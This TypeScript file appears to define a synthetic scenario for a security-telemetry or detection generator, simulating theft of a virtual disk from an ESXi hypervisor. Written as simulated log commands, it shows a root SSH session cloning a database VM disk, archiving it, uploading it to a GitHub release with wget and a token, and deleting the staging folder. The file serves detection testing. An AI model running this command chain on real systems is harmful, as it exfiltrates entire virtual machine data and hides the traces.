/** On a hypervisor a virtual disk is packed in the shell and sent to a code host at night. */
import { MINUTE, SECOND } from "../clock.ts";
import { hostNamed } from "../company.ts";
import { hypervisorEvent } from "../sensors/hypervisor.ts";
import { overTls } from "../sensors/network.ts";
import { server } from "../servers.ts";
import { at } from "../world.ts";
import type { Story } from "./index.ts";

export const esxiDatastore: Story = {
  id: "esxi-datastore",
  title: "Virtual disk sent from a hypervisor to a code host",
  behaviours: ["esxi-datastore-upload", "unsanctioned-source-host", "off-hours-activity"],
  shows: {
    url: ["esxi-datastore-upload", "unsanctioned-source-host", "off-hours-activity"],
    "sni+flow": ["esxi-datastore-upload", "unsanctioned-source-host", "off-hours-activity"],
    flow: ["esxi-datastore-upload", "unsanctioned-source-host", "off-hours-activity"],
    dns: ["unsanctioned-source-host"],
    endpoint: ["esxi-datastore-upload", "off-hours-activity"],
  },
  demoDay: null,
  days: 1,
  tell(world, day, random) {
    const host = hostNamed(world.company, "esx-01");
    const owner = `bx-${random.hex(5)}`;
    const shell = random.int(2_100_000, 2_199_999);
    const release = random.int(230_000_000, 239_999_999);
    let time = at(world, day, 2.9);
    hypervisorEvent(world, time, host, 2_099_563, {
      kind: "hostd",
      thread: 2_099_571,
      sub: "Vimsvc.ha-eventmgr",
      text: "Event 5127 : SSH session was opened for 'root@10.1.32.21'.",
    });
    const type = (command: string, after: number): void => {
      time += after;
      hypervisorEvent(world, time, host, shell, { kind: "command", user: "root", command });
    };
    type("esxcli vm process list", 20 * SECOND);
    type("ls -la /vmfs/volumes/datastore1/db-02", 25 * SECOND);
    hypervisorEvent(world, time + 4 * SECOND, host, 2_099_563, {
      kind: "hostd",
      thread: 2_099_588,
      sub: "Vimsvc.TaskManager",
      text: "Task Created : haTask-17-vim.VirtualMachine.createSnapshot-88123",
    });
    type("vmkfstools -i /vmfs/volumes/datastore1/db-02/db-02.vmdk /vmfs/volumes/datastore1/.t/d.vmdk -d thin", MINUTE);
    type("tar -czf /vmfs/volumes/datastore1/.t/d.tgz /vmfs/volumes/datastore1/.t/d-flat.vmdk", 6 * MINUTE);
    type(
      `wget --header "Authorization: token ghp_${random.alphanumeric(36)}" --post-file /vmfs/volumes/datastore1/.t/d.tgz "https://uploads.github.com/repos/${owner}/iso/releases/${release}/assets?name=d.iso"`,
      9 * MINUTE,
    );
    const bytes = random.int(680_000_000, 940_000_000);
    const ended = overTls(world, {
      time: time + 200,
      host,
      user: null,
      process: null,
      server: server("uploads.github.com"),
      requests: [
        {
          method: "POST",
          path: `/repos/${owner}/iso/releases/${release}/assets?name=d.iso`,
          status: 201,
          sent: bytes,
          received: 1_600,
        },
      ],
      random,
    });
    time = ended;
    type("rm -rf /vmfs/volumes/datastore1/.t", 12 * SECOND);
    return {
      actor: ["root"],
      hosts: [host.name],
      addresses: [host.ip],
      destinations: [`github.com/${owner}/iso`],
      bytesOut: bytes,
    };
  },
};
